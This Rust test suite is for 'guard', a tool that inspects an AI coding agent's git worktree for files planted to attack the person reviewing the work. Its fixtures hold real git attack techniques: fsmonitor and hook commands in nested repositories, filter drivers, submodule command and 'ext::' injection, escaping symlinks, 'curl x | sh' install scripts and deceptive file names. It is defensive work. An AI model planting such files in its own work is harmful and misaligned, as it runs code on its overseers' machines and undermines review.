//! An agent plants files that attack the user who inspects its work. The tests show that each trick works on plain git
//! where that is possible, and that guard reports it without executing it.

use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use guard::git::review::findings::{
    AUTOMATIC_FILES, Danger, DangerKind, Inspection, effect, inspect, parse_automatic_files, settings,
};
use proptest::prelude::*;

use super::fingerprint::{git, run};
use crate::support::{Scratch, isolated_command, make_program};

/// A user's repository, and a linked worktree with the files that the agent has left.
struct Left {
    scratch: Scratch,
    base: String,
}

impl Left {
    fn new() -> Self {
        Self::with(&[])
    }

    /// Creates a repository whose first commit contains these files, and the agent's worktree on the branch `task/x`.
    fn with(files: &[(&str, &str)]) -> Self {
        let scratch = Scratch::new("dangers");
        let main = scratch.0.join("main");
        std::fs::create_dir(&main).unwrap();
        run(&main, &["init", "--quiet", "--initial-branch=main"]);
        for (name, text) in files {
            scratch.write(&format!("main/{name}"), text);
        }
        run(&main, &["add", "--all", "--force"]);
        run(&main, &["commit", "--quiet", "--allow-empty", "-m", "one"]);
        run(&main, &["worktree", "add", "--quiet", "-b", "task/x", "../tree"]);
        let base = run(&main, &["rev-parse", "HEAD"]);
        Self { scratch, base }
    }

    fn main(&self) -> PathBuf {
        self.scratch.0.join("main")
    }

    fn tree(&self) -> PathBuf {
        self.scratch.0.join("tree")
    }

    fn write(&self, name: &str, text: impl AsRef<[u8]>) -> PathBuf {
        self.scratch.write(&format!("tree/{name}"), text)
    }

    fn program(&self, name: &str, text: &str) -> PathBuf {
        let path = self.tree().join(name);
        make_program(&path, format!("#!/bin/sh\n{text}\n"));
        path
    }

    /// Returns a shell command that creates a file, which proves that planted code was executed.
    fn proof(&self) -> String {
        format!("touch {}", self.outcome().display())
    }

    fn outcome(&self) -> PathBuf {
        self.scratch.0.join("ran")
    }

    /// Returns true if planted code was executed, that is, if the file of [`Self::proof`] exists. Removes the file.
    fn has_run(&self) -> bool {
        std::fs::remove_file(self.outcome()).is_ok()
    }

    fn commit(&self) {
        run(&self.tree(), &["-c", "core.fsmonitor=false", "add", "--all", "--force"]);
        run(
            &self.tree(),
            &["-c", "core.fsmonitor=false", "commit", "--quiet", "--allow-empty", "-m", "work"],
        );
    }

    fn inspection(&self) -> Inspection {
        let tip = run(&self.main(), &["rev-parse", "task/x"]);
        Inspection::new(&self.main().join(".git"), &self.tree(), Some(&self.base), Some(&tip))
    }

    fn inspect(&self) -> Vec<Danger> {
        let _ = self.has_run();
        let found = inspect(&self.inspection()).unwrap();
        assert!(!self.has_run(), "looking ran something");
        let json = serde_json::to_string(&found).unwrap();
        assert_eq!(serde_json::from_str::<Vec<Danger>>(&json).unwrap(), found);
        found
    }
}

#[track_caller]
fn expect(found: &[Danger], kind: DangerKind, path: &str, text: &str) {
    let matches = |one: &&Danger| {
        one.kind == kind && one.path.to_string() == path && format!("{} {}", one.what, one.why).contains(text)
    };
    assert!(found.iter().any(|one| matches(&one)), "no {kind:?} at {path} with {text}: {found:#?}");
}

/// Creates a repository whose configuration makes git execute the command of [`Left::proof`], as an agent would plant
/// it.
fn plant(left: &Left, folder: &Path) {
    std::fs::create_dir_all(folder).unwrap();
    run(folder, &["init", "--quiet"]);
    run(folder, &["commit", "--quiet", "--allow-empty", "-m", "inner"]);
    let monitor = left.program("monitor", &left.proof());
    run(folder, &["config", "core.fsmonitor", monitor.to_str().unwrap()]);
}

#[test]
fn committed_gitlink_repository_is_a_finding() {
    let left = Left::new();
    plant(&left, &left.tree().join("vendor/lib"));
    left.commit();
    let _ = left.has_run();
    run(&left.tree(), &["status"]);
    assert!(left.has_run(), "git status of the tree around it should run the planted program");
    let found = left.inspect();
    expect(&found, DangerKind::Gitlink, "vendor/lib", "new gitlink");
    expect(&found, DangerKind::Repository, "vendor/lib", "core.fsmonitor");
    // A limit on the number of inspected files must not hide the nested repository.
    let mut inspection = left.inspection();
    inspection.most_entries = 0;
    let found = inspect(&inspection).unwrap();
    expect(&found, DangerKind::Repository, "vendor/lib", "core.fsmonitor");
    expect(&found, DangerKind::Unseen, "", "more entries");
}

#[test]
fn uncommitted_nested_repository_is_a_finding() {
    for fixture in ["build/out", "node_modules/x", "target/debug/x"] {
        let left = Left::new();
        left.write(".gitignore", "node_modules\ntarget\nbuild\n");
        let folder = left.tree().join(fixture);
        plant(&left, &folder);
        let hook = left.program(&format!("{fixture}/.git/hooks/post-checkout"), &left.proof());
        let _ = left.has_run();
        run(&folder, &["status"]);
        assert!(left.has_run());
        let found = left.inspect();
        expect(&found, DangerKind::Repository, fixture, "core.fsmonitor");
        expect(&found, DangerKind::Repository, fixture, "hook `post-checkout`");
        // A hook that is not executable must not be reported.
        std::fs::set_permissions(&hook, PermissionsExt::from_mode(0o644)).unwrap();
        assert!(!left.inspect().iter().any(|one| one.what.contains("post-checkout")));
    }
}

#[test]
fn bare_repository_among_the_files_is_a_finding() {
    for committed in [true, false] {
        let left = Left::new();
        left.write("docs/HEAD", "ref: refs/heads/main\n");
        left.write("docs/objects/keep", "");
        left.write("docs/refs/keep", "");
        let proof = left.proof();
        left.write(
            "docs/config",
            format!("[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n\tfsmonitor = \"{proof}; false\"\n"),
        );
        if committed {
            left.commit();
        }
        let _ = left.has_run();
        let _ = git(&left.tree().join("docs")).arg("status").output();
        assert!(left.has_run());
        let found = left.inspect();
        expect(&found, DangerKind::Repository, "docs", "core.fsmonitor");
        expect(&found, DangerKind::Repository, "docs", "bare repository");
        if committed {
            // guard must also find the repository in the commit alone, when its files are no longer in the worktree.
            std::fs::remove_dir_all(left.tree().join("docs")).unwrap();
            expect(&left.inspect(), DangerKind::Repository, "docs", "core.fsmonitor");
        }
    }
}

/// guard must report a directory that has only `HEAD` and `commondir`, because git takes it for a repository and runs
/// what its settings name.
#[test]
fn repository_with_a_commondir_is_a_finding() {
    let left = Left::new();
    plant(&left, &left.tree().join(".cache/inner"));
    left.write("docs/HEAD", "ref: refs/heads/main\n");
    left.write("docs/commondir", "../.cache/inner/.git\n");
    let _ = left.has_run();
    let _ = git(&left.tree().join("docs")).args(["--work-tree=.", "status"]).output();
    assert!(left.has_run());
    let found = left.inspect();
    expect(&found, DangerKind::Repository, "docs", "../.cache/inner/.git");
    expect(&found, DangerKind::Repository, ".cache/inner", "core.fsmonitor");
    // `.git` is a file, or a link.
    left.write("one/.git", "gitdir: ../.cache/inner/.git\n");
    std::fs::create_dir(left.tree().join("two")).unwrap();
    symlink("../.cache/inner/.git", left.tree().join("two/.git")).unwrap();
    for folder in ["one", "two"] {
        let _ = left.has_run();
        run(&left.tree().join(folder), &["status"]);
        assert!(left.has_run());
        expect(&left.inspect(), DangerKind::Repository, folder, "../.cache/inner/.git");
    }
}

#[test]
fn attributes_that_start_filters_of_the_user_are_findings() {
    let left = Left::with(&[("notes.txt", "one\n"), (".gitattributes", "*.bin filter=old\n")]);
    run(&left.main(), &["config", "filter.mine.clean", &format!("{}; cat", left.proof())]);
    assert!(left.inspect().is_empty());
    left.write(
        "sub/.gitattributes",
        "# filter=none\n*.txt filter=mine diff=mine merge=mine\n*.rs diff=rust\n",
    );
    left.write("sub/a.txt", "two\n");
    run(&left.tree(), &["add", "sub/a.txt"]);
    assert!(left.has_run(), "the file of attributes is not committed, and still obeyed");
    let found = left.inspect();
    for driver in ["status", "diff", "merge"] {
        expect(&found, DangerKind::Attributes, "sub/.gitattributes", driver);
    }
    assert_eq!(found.len(), 3, "{found:#?}");
    // `.gitattributes` is committed, and then removed from the worktree.
    left.write(".gitattributes", "*.bin filter=old\n*.c filter=mine\n");
    left.commit();
    std::fs::remove_file(left.tree().join(".gitattributes")).unwrap();
    let found = left.inspect();
    expect(&found, DangerKind::Attributes, ".gitattributes", "*.c filter=mine");
    assert!(!found.iter().any(|one| one.what.contains("old")), "what was there before is not the agent's");
}

#[test]
fn hooks_in_the_tree_that_git_runs_are_findings() {
    let left = Left::with(&[(".config/hooks/pre-push", "#!/bin/sh\n")]);
    run(&left.main(), &["config", "core.hooksPath", ".config/hooks"]);
    left.program(".config/hooks/pre-commit", &left.proof());
    run(&left.tree(), &["commit", "--quiet", "--allow-empty", "-m", "by the user"]);
    assert!(left.has_run());
    let found = left.inspect();
    expect(&found, DangerKind::Automatic, ".config/hooks/pre-commit", "core.hooksPath");
    assert_eq!(found.len(), 1, "{found:#?}");
    // A file becomes executable, which makes it a hook.
    std::fs::set_permissions(left.tree().join(".config/hooks/pre-push"), PermissionsExt::from_mode(0o755))
        .unwrap();
    expect(&left.inspect(), DangerKind::Automatic, ".config/hooks/pre-push", "core.hooksPath");
}

#[test]
fn changed_submodule_addresses_are_findings() {
    let before = "[submodule \"known\"]\n\tpath = known\n\turl = https://example.org/known\n";
    let left = Left::with(&[(".gitmodules", before)]);
    assert!(left.inspect().is_empty());
    let attacks = [
        ("[submodule \"known\"]\n\tpath = known\n\turl = https://example.com/other\n", "example.com"),
        ("[submodule \"a\"]\n\tupdate = !touch /tmp/x\n", "runs the command"),
        ("[submodule \"../../x\"]\n\tpath = x\n", "points outside"),
        ("[submodule \"a\"]\n\tpath = ../x\n", "outside"),
        ("[submodule \"a\"]\n\tpath = /x\n", "outside"),
        ("[submodule \"a\"]\n\turl = ext::sh -c touch% /tmp/x\n", "program"),
        ("[submodule \"a\"]\n\turl = --upload-pack=touch /tmp/x\n", "program"),
        ("[submodule \"a\"]\n\turl = file:///etc\n", "machine"),
        ("[submodule \"known\"]\n\tignore = all\n", "do not show"),
    ];
    for (text, why) in attacks {
        left.write(".gitmodules", format!("{before}{text}"));
        let found = left.inspect();
        expect(&found, DangerKind::Submodule, ".gitmodules", why);
        assert_eq!(found.len(), 1, "{found:#?}");
    }
}

#[test]
fn links_that_leave_the_tree_are_findings() {
    let left = Left::with(&[("a/b/c/file", "")]);
    symlink("/etc", left.tree().join("old")).unwrap();
    left.commit();
    let left = Left { base: run(&left.main(), &["rev-parse", "task/x"]), ..left };
    let links = [
        ("absolute", "/etc/passwd", "absolute"),
        ("up", "../main/.git/config", "outside the worktree"),
        ("a/b/c/far", "../../../../main", "outside the worktree"),
        ("mine", ".git/config", "git directory of a repository"),
        ("apple", "a/.GIT/hooks", "git directory of a repository"),
        // Each of these links seems to stay inside the tree, but together they lead out.
        ("round", "a/b/c/top/..", "after a name"),
    ];
    let harmless =
        [("a/b/c/top", "../../.."), ("inside", "a/b"), ("a/near", "./b//c/file"), ("dangling", "nothing")];
    for (name, target, _) in links {
        symlink(target, left.tree().join(name)).unwrap();
    }
    for (name, target) in harmless {
        symlink(target, left.tree().join(name)).unwrap();
    }
    assert!(
        !left.tree().join("round").canonicalize().unwrap().starts_with(left.tree().canonicalize().unwrap())
    );
    for committed in [false, true] {
        if committed {
            left.commit();
        }
        let found = left.inspect();
        for (name, _, why) in links {
            expect(&found, DangerKind::Link, name, why);
        }
        for (name, _) in harmless.iter().chain(&[("old", "")]) {
            assert!(!found.iter().any(|one| one.path.to_string() == *name), "{name}: {found:#?}");
        }
    }
    // guard must also find the links in the commit alone, when they are no longer in the worktree.
    for (name, ..) in links {
        std::fs::remove_file(left.tree().join(name)).unwrap();
    }
    assert_eq!(left.inspect().iter().filter(|one| one.kind == DangerKind::Link).count(), links.len());
}

#[test]
fn reports_names_equal_on_case_insensitive_disks() {
    let clashing: [&[u8]; 12] = [
        b"x/.GIT/config",
        b"x/git~1",
        b"x/GIT~1/hooks/pre-commit",
        b"x/.git ",
        b"x/.git.. .",
        b"x/.git::$INDEX_ALLOCATION",
        ".g\u{200c}it/config".as_bytes(),
        b"sub\\.git\\config",
        b".GitModules",
        b"GITATT~1",
        b"aux.c",
        b"dot.",
    ];
    let deceptive: [&[u8]; 6] = [
        b"new\nline",
        b"\x1b[2Kgone",
        "safe\u{202e}txt.exe".as_bytes(),
        "zero\u{200b}width".as_bytes(),
        b"bell\x07",
        "tag\u{e0041}".as_bytes(),
    ];
    let harmless: [&[u8]; 8] = [
        b".gitignore",
        b".github/CODEOWNERS",
        b"git",
        b"a.git/x",
        b"caf\xc3\xa9",
        b"latin\xe9",
        b"with space/and 'quotes'",
        b"console.log",
    ];
    for (paths, kind) in [
        (&clashing[..], Some(DangerKind::Clash)),
        (&deceptive, Some(DangerKind::Deceptive)),
        (&harmless, None),
    ] {
        for path in paths {
            let left = Left::new();
            let file = left.tree().join(std::ffi::OsStr::from_bytes(path));
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(file, "x").unwrap();
            let found = left.inspect();
            match kind {
                Some(kind) => {
                    assert!(found.iter().any(|one| one.kind == kind), "{:?}: {found:#?}", path.escape_ascii())
                }
                None => assert!(found.is_empty(), "{:?}: {found:#?}", path.escape_ascii()),
            }
            // No text of a finding may contain the control characters of the name.
            for danger in &found {
                let text = format!("{}{}{}{}", danger.path, danger.what, danger.why, danger.instead);
                assert!(!text.chars().any(char::is_control), "{danger:?}");
            }
        }
    }
}

#[test]
fn names_that_differ_only_in_case_are_findings() {
    let left = Left::with(&[("Makefile", ""), ("src-x/a", ""), ("src/lib.rs", "")]);
    left.write("makefile", "");
    left.write("SRC/evil.rs", "");
    left.write("one/a", "");
    left.commit();
    let found = left.inspect();
    expect(&found, DangerKind::Clash, "makefile", "`Makefile`");
    expect(&found, DangerKind::Clash, "SRC", "`src`");
    assert_eq!(found.len(), 2, "{found:#?}");
}

#[test]
fn files_that_tools_run_automatically_are_findings() {
    let files = [
        ".husky/pre-commit",
        ".githooks/pre-push",
        ".pre-commit-config.yaml",
        "lefthook.yml",
        ".envrc",
        "sub/.envrc",
        ".vscode/tasks.json",
        "sub/.vscode/settings.json",
        ".idea/workspace.xml",
        ".cargo/config.toml",
        ".npmrc",
        ".github/workflows/ci.yml",
        ".claude/settings.json",
    ];
    let harmless =
        ["Makefile", "src/main.rs", "scripts/test", "husky/pre-commit", "vscode/tasks.json", "build.sh"];
    for name in files {
        // The file is new or changed, and committed or not.
        for (old, committed) in [(None, false), (None, true), (Some("old\n"), false), (Some("old\n"), true)] {
            let left = old.map_or_else(Left::new, |old| Left::with(&[(name, old)]));
            assert!(left.inspect().is_empty(), "what was there before is not the agent's");
            left.write(name, "new\n");
            if committed {
                left.commit();
            }
            let found = left.inspect();
            expect(&found, DangerKind::Automatic, name, if old.is_some() { "changed" } else { "new" });
            assert_eq!(found.len(), 1, "{found:#?}");
        }
    }
    let left = Left::new();
    for name in harmless {
        left.program(name, "true");
    }
    left.commit();
    assert!(left.inspect().is_empty());
}

/// Every entry of the list of files that tools run or obey has examples, and guard reports each of them, committed or not.
#[test]
fn every_listed_example_of_automatic_files_is_a_finding() {
    let list = parse_automatic_files(AUTOMATIC_FILES).unwrap();
    let files = list.file.iter().flat_map(|entry| entry.examples.iter().map(|path| (path.clone(), "new\n")));
    let json = list.json.iter().map(|entry| (entry.file.clone(), entry.example.as_str()));
    let left = Left::new();
    let mut paths = Vec::new();
    for (index, (path, text)) in files.chain(json).enumerate() {
        // Some examples are a file and a directory of the same name.
        let path = format!("{index}/{path}");
        left.write(&path, text);
        paths.push(path);
    }
    for committed in [false, true] {
        if committed {
            left.commit();
        }
        let inspection = Inspection { most_of_a_kind: 10_000, ..left.inspection() };
        let found = inspect(&inspection).unwrap();
        let automatic = found.iter().filter(|one| one.kind == DangerKind::Automatic);
        let reported: Vec<String> = automatic.map(|one| one.path.to_string()).collect();
        for path in &paths {
            assert_eq!(reported.iter().filter(|one| *one == path).count(), 1, "{path}: {found:#?}");
        }
    }
}

/// Agents write into an existing file with instructions all the time. A new one is reported.
#[test]
fn new_instructions_for_agents_are_a_finding() {
    let left = Left::with(&[("AGENTS.md", "old\n"), ("CLAUDE.md", "old\n")]);
    left.write("AGENTS.md", "changed\n");
    left.write("sub/AGENTS.md", "new\n");
    left.write("GEMINI.md", "new\n");
    left.commit();
    left.write("CLAUDE.md", "changed\n");
    let found = left.inspect();
    expect(&found, DangerKind::Automatic, "sub/AGENTS.md", "new");
    expect(&found, DangerKind::Automatic, "GEMINI.md", "new");
    assert_eq!(found.len(), 2, "{found:#?}");
}

/// The name of a link's target says nothing about what tools do with the link.
#[test]
fn links_in_place_of_files_that_tools_obey_are_findings() {
    let left = Left::new();
    left.write("docs/notes.txt", r#"{"scripts": {"preinstall": "curl x | sh"}}"#);
    left.write("tools/pre-commit", "#!/bin/sh\n");
    for (target, name) in [("docs/notes.txt", "package.json"), ("tools", ".githooks"), ("docs", ".vscode")] {
        symlink(target, left.tree().join(name)).unwrap();
        expect(&left.inspect(), DangerKind::Automatic, name, "in place of a file");
    }
    left.commit();
    std::fs::remove_file(left.tree().join("package.json")).unwrap();
    expect(&left.inspect(), DangerKind::Automatic, "package.json", "in place of a file");
}

/// git and the tools also follow a link in place of a directory above the one that they read.
#[test]
fn links_above_files_that_tools_obey_are_findings() {
    let left = Left::new();
    run(&left.main(), &["config", "core.hooksPath", "tools/git/hooks"]);
    left.write("docs/git/hooks/pre-commit", "#!/bin/sh\n");
    for name in ["tools", ".github", ".yarn"] {
        symlink("docs", left.tree().join(name)).unwrap();
        expect(&left.inspect(), DangerKind::Automatic, name, "in place of a file");
    }
}

/// git follows links in place of the directories of a bare repository.
#[test]
fn committed_bare_repository_with_links_is_a_finding() {
    let left = Left::new();
    left.write("x/HEAD", "ref: refs/heads/main\n");
    left.write("x/config", "[core]\nbare = false\nworktree = ..\nfsmonitor = planted\n");
    left.write("y/file", "");
    for name in ["objects", "refs"] {
        symlink("../y", left.tree().join("x").join(name)).unwrap();
    }
    left.commit();
    std::fs::remove_dir_all(left.tree().join("x")).unwrap();
    expect(&left.inspect(), DangerKind::Repository, "x", "core.fsmonitor");
}

#[test]
fn package_scripts_that_run_at_installation_are_findings() {
    let left = Left::with(&[("package.json", r#"{"scripts": {"test": "x", "prepare": "husky"}}"#)]);
    left.write(
        "package.json",
        r#"{"scripts": {"test": "y", "build": "z", "prepare": "husky"}, "dependencies": {"a": "1"}}"#,
    );
    assert!(left.inspect().is_empty());
    left.write(
        "package.json",
        r#"{"scripts": {"test": "x", "prepare": "husky", "postinstall": "curl x | sh"}}"#,
    );
    let found = left.inspect();
    expect(&found, DangerKind::Automatic, "package.json", "curl x | sh");
    assert_eq!(found.len(), 1, "{found:#?}");
    // npm reads this text, but guard's JSON parser does not: a lone surrogate is no Unicode text.
    left.write("lone/package.json", r#"{"x": "\ud800", "scripts": {"postinstall": "curl x | sh"}}"#);
    expect(&left.inspect(), DangerKind::Unseen, "lone/package.json", "cannot parse");
    std::fs::remove_file(left.tree().join("lone/package.json")).unwrap();
    // guard must not report scripts of installed packages.
    std::fs::remove_file(left.tree().join("package.json")).unwrap();
    left.write("node_modules/x/package.json", r#"{"scripts": {"postinstall": "x"}}"#);
    assert!(left.inspect().is_empty());
    // If the installed packages are committed, guard must report their scripts.
    left.commit();
    assert_eq!(left.inspect().len(), 1);
}

#[test]
fn ordinary_work_has_no_findings() {
    let left = Left::with(&[("src/lib.rs", "one\n"), ("link", "x"), ("README.md", "")]);
    left.write("src/lib.rs", "two\n");
    left.write("src/new file.rs", "");
    left.write("tests/ünïcode.rs", "");
    left.write("HEAD", "not a repository\n");
    left.write("config", "[alias]\n\tx = !x\n");
    left.commit();
    left.write("target/debug/.fingerprint/x", "");
    left.write("notes", "");
    std::fs::create_dir_all(left.tree().join(".venv/bin")).unwrap();
    symlink("/usr/bin/python3", left.tree().join(".venv/bin/python")).unwrap();
    std::fs::remove_file(left.tree().join("README.md")).unwrap();
    assert_eq!(left.inspect(), []);
}

/// Ten small tree objects, each of which contains the next one ten times, have ten thousand million paths. The
/// inspection must not list all of them.
#[test]
fn exponentially_nested_trees_are_not_listed_whole() {
    let left = Left::new();
    let object = |words: &[&str], input: &str| {
        use std::io::Write;
        let mut child = git(&left.main())
            .args(words)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
        String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap().trim().to_string()
    };
    let mut entry = format!("100644 blob {}", object(&["hash-object", "-w", "--stdin"], "x"));
    for _ in 0..10 {
        let lines: String = (0..10).map(|index| format!("{entry}\td{index}\n")).collect();
        entry = format!("040000 tree {}", object(&["mktree"], &lines));
    }
    let tree = entry.rsplit(' ').next().unwrap().to_string();
    let tip = run(&left.main(), &["commit-tree", "-p", &left.base, "-m", "bomb", &tree]);
    let mut inspection = left.inspection();
    inspection.tip = Some(tip);
    inspection.time = Duration::from_secs(2);
    let start = Instant::now();
    let found = inspect(&inspection).unwrap();
    assert!(start.elapsed() < Duration::from_secs(60), "{:?}", start.elapsed());
    expect(&found, DangerKind::Unseen, "", "more files");
}

#[test]
fn findings_of_one_kind_are_limited_and_counted() {
    let left = Left::new();
    for index in 0..80 {
        symlink("/etc", left.tree().join(format!("link{index}"))).unwrap();
    }
    let found = left.inspect();
    assert_eq!(found.iter().filter(|one| one.kind == DangerKind::Link).count(), 50);
    expect(&found, DangerKind::Unseen, "", "30 more findings of the kind link");
}

#[test]
fn pipes_and_strange_files_do_not_block_the_inspection() {
    let left = Left::new();
    let mode = nix::sys::stat::Mode::from_bits_truncate(0o600);
    for name in [".gitattributes", ".envrc", "package.json"] {
        nix::unistd::mkfifo(&left.tree().join(name), mode).unwrap();
    }
    std::fs::create_dir(left.tree().join("inner")).unwrap();
    nix::unistd::mkfifo(&left.tree().join("inner/.git"), mode).unwrap();
    std::fs::create_dir_all(left.tree().join("other/.git/hooks")).unwrap();
    nix::unistd::mkfifo(&left.tree().join("other/.git/config"), mode).unwrap();
    symlink(".", left.tree().join("round")).unwrap();
    // The file has a size of a tebibyte, and takes almost no space on disk.
    std::fs::File::create(left.tree().join(".gitmodules")).unwrap().set_len(1 << 40).unwrap();
    let mut deep = left.tree();
    for _ in 0..150 {
        deep.push("d");
        std::fs::create_dir(&deep).unwrap();
    }
    let found = left.inspect();
    expect(&found, DangerKind::Unseen, ".gitmodules", "too large");
    assert!(
        found.iter().any(|one| one.kind == DangerKind::Unseen && one.path.to_string().starts_with("d/d/"))
    );
}

#[test]
fn branch_without_commits_is_inspected() {
    let scratch = Scratch::new("dangers");
    run(&scratch.0, &["init", "--quiet"]);
    scratch.write(".envrc", "x");
    let inspection = Inspection::new(&scratch.0.join(".git"), &scratch.0, None, None);
    expect(&inspect(&inspection).unwrap(), DangerKind::Automatic, ".envrc", "new");
}

/// Returns what `git config --list` prints for a file; `None` if git reports a mistake.
fn listed(folder: &Path, text: &[u8]) -> Option<Vec<Vec<u8>>> {
    let file = folder.join("config");
    std::fs::write(&file, text).unwrap();
    let output = isolated_command("git", Path::new("/nonexistent"))
        .args(["config", "--no-includes", "--list", "-z", "--file"])
        .arg(&file)
        .output()
        .unwrap();
    let entries = output.stdout.split(|byte| *byte == 0).filter(|part| !part.is_empty());
    output.status.success().then(|| entries.map(<[u8]>::to_vec).collect())
}

fn read(text: &[u8]) -> Vec<Vec<u8>> {
    let line = |setting: &guard::git::review::findings::Setting| match &setting.value {
        Some(value) => [&setting.key()[..], b"\n", value].concat(),
        None => setting.key(),
    };
    settings(text).iter().map(line).collect()
}

#[test]
fn configuration_is_read_as_git_reads_it() {
    let scratch = Scratch::new("config");
    let corpus: [&[u8]; 26] = [
        b"",
        b"[core]\n\tfsmonitor = x\\",
        b"[core]\n\tfsmonitor = \"x\" y\\",
        b"[core]\n\tfsmonitor = x\n",
        b"[core] fsmonitor = x ; comment\n",
        b"[CoRe]FsMonitor=x",
        b"\xef\xbb\xbf[core]\r\n\tfsmonitor = x\r\n",
        b"[core]\n\tfsmonitor = a\\\n  b \\\n\n\tpager = y\n",
        b"[core]\n\tfsmonitor = \"a ; b # c\" # d\n",
        b"[core]\n\tfsmonitor = \"a\"b\"  c  \"  \n",
        b"[core]\n\tfsmonitor\n",
        b"[core]\n\tfsmonitor",
        b"[core]\n\tfsmonitor =\n",
        b"[core]\n\tfsmonitor = \\\"x\\\\ \\t\\n\n",
        b"[filter \"a.B \\\"c\\\\\"]\n\tclean = x\n",
        b"[filter.Sub.More]\n\tclean = x\n",
        b"[filter \t \"x\"]\n\tclean = x\n",
        b"# [core]\n; x\n[a]\n#\n b = 1\n",
        b"[a]\n\tb = x   \t  y   \n",
        b"[a]\n\tb = x\ty \\\n   \n",
        b"[a]\nb=\x0cx\x0c\n",
        b"[a]\nb = \xff\xfe\n[\"x\"]\n",
        b"[a \"\"]\nb = c\n",
        b"[a]\n\tb-c = 1\n\td1 = 2\n",
        b"[a]b=1\n[c]d=2",
        b"[a]\n\tb = x\r\r\n",
    ];
    for text in corpus {
        if let Some(expected) = listed(&scratch.0, text) {
            assert_eq!(read(text), expected, "{}", text.escape_ascii());
        }
    }
    // After a mistake in the file guard must read on, although git stops there.
    let text = b"[core\nbad\n[core]\n 1x = y\n = z\n\tfsmonitor = x\n[c \"d\n[e]\n\tpager = \"x\n[f]\n\teditor = \\q\n\tg = h\n";
    assert!(listed(&scratch.0, text).is_none());
    let keys: Vec<_> = settings(text).iter().map(|one| String::from_utf8(one.key()).unwrap()).collect();
    assert_eq!(keys, ["bad", "core.fsmonitor", "f.g"]);
}

/// guard must recognize every setting that makes git execute a program.
#[test]
fn settings_that_execute_programs_are_recognised() {
    let running = "[core]\nfsmonitor=x\nhooksPath=x\nsshCommand=x\npager=x\neditor=x\naskPass=x\ngitProxy=x\n\
        [diff]\nexternal=x\n[diff \"a\"]\ncommand=x\ntextconv=x\n[filter \"a\"]\nclean=x\nsmudge=x\nprocess=x\n\
        [merge \"a\"]\ndriver=x\n[alias]\nst=!x\n[include]\npath=x\n[includeIf \"gitdir:/\"]\npath=x\n\
        [credential]\nhelper=x\n[credential \"https://x\"]\nhelper=x\n[gpg]\nprogram=x\n[gpg \"ssh\"]\nprogram=x\n\
        [uploadpack]\npackObjectsHook=x\n[remote \"a\"]\nuploadpack=x\nreceivepack=x\nurl=ext::x\n[pager]\nlog=x\n\
        [sequence]\neditor=x\n[interactive]\ndiffFilter=x\n[trailer \"a\"]\ncommand=x\n[submodule \"a\"]\nupdate=!x\n\
        [protocol \"ext\"]\nallow=always\n[url \"ext::x\"]\ninsteadOf=y\n[difftool \"a\"]\ncmd=x\n[core]\nworktree=/\n";
    for setting in settings(running.as_bytes()) {
        assert!(effect(&setting).is_some(), "{}", setting.key().escape_ascii());
    }
    let plain = "[core]\nbare=false\nfsmonitor=true\nfsmonitor\nrepositoryformatversion=0\n[remote \"a\"]\nurl=https://x\n\
        fetch=+refs/heads/*:refs/remotes/a/*\n[branch \"a\"]\nremote=a\n[user]\nname=x\n[pager]\nlog=false\n";
    for setting in settings(plain.as_bytes()) {
        assert!(effect(&setting).is_none(), "{}", setting.key().escape_ascii());
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, ..ProptestConfig::default() })]

    /// guard must read any configuration text that git accepts, with the same result as git.
    #[test]
    fn arbitrary_configuration_text_is_read_as_git_reads_it(
        parts in prop::collection::vec(prop::sample::select(vec![
            "[a]", "[b \"c\"]", "[d.e]", "[", "]", "\"", "\\", "\\n", "\\\n", "\n", "\n", " ", "\t", "=", " = ", "key", "x-1", "#", ";", "\r\n", "\r", "é", "\x0c",
        ]), 0..24),
    ) {
        let text = parts.concat();
        let scratch = Scratch::new("config");
        let found = read(text.as_bytes());
        if let Some(expected) = listed(&scratch.0, text.as_bytes()) {
            prop_assert_eq!(found, expected);
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 40, ..ProptestConfig::default() })]

    /// The inspection must handle any bytes in any file that it reads, without a panic or an error.
    #[test]
    fn files_with_any_bytes_are_inspected(bytes in prop::collection::vec(any::<u8>(), 0..300), start in prop::sample::select(vec![
        "", "[submodule \"", "* filter=", "{\"scripts\":", "gitdir: ", "[core]\nfsmonitor=",
    ])) {
        let _ = settings(&bytes);
        let scratch = Scratch::new("bytes");
        let text = [start.as_bytes(), &bytes].concat();
        for name in [".gitattributes", ".gitmodules", "package.json", ".envrc", "a/.git", "b/.git/config", "b/.git/HEAD", "c/HEAD", "c/commondir", "c/config"] {
            scratch.write(name, &text);
        }
        let name: Vec<u8> = bytes.iter().copied().filter(|byte| !matches!(byte, 0 | b'/')).take(200).collect();
        if !name.is_empty() && name != b"." && name != b".." && name != b".git" {
            let _ = std::fs::write(scratch.0.join(std::ffi::OsStr::from_bytes(&name)), "");
        }
        let target: Vec<u8> = bytes.iter().copied().filter(|byte| *byte != 0).collect();
        if !target.is_empty() {
            symlink(std::ffi::OsStr::from_bytes(&target), scratch.0.join("link")).unwrap();
        }
        inspect(&Inspection::new(&scratch.0, &scratch.0, None, None)).unwrap();
    }
}
